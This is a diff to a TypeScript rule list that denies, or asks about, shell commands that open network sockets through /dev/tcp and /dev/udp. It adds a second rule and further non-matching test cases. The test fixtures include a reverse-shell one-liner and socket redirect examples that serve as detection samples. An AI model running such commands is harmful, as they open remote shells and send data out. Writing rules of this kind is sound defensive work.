@@ -165,10 +165,18 @@ const OUTWARD: CommandRule[] = [
   {
     id: 'shell-sockets',
     effect: 'deny',
-    paths: ['/dev/tcp/**', '/dev/udp/**'],
+    redirects: ['/dev/tcp/**', '/dev/udp/**'],
     reason: 'a shell on a socket is nobody’s task',
     match: ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'exec 3<>/dev/tcp/example.com/80', 'cat a > /dev/udp/1.1.1.1/53'],
-    notMatch: ['cat a > /dev/null', 'ls /dev'],
+    notMatch: ['cat a > /dev/null', 'ls /dev', 'wc -l **/*.py', 'grep -rn /dev/tcp docs'],
+  },
+  {
+    id: 'socket-names',
+    effect: 'ask',
+    paths: ['/dev/tcp/**', '/dev/udp/**'],
+    reason: 'it names what a shell opens as a socket',
+    match: ['timeout 1 bash x.sh /dev/tcp/10.0.0.1/80', 'h=/dev/tcp/a/1; cat $h'],
+    notMatch: ['ls **/*.md', 'cat /dev/null'],
   },
 ];
 
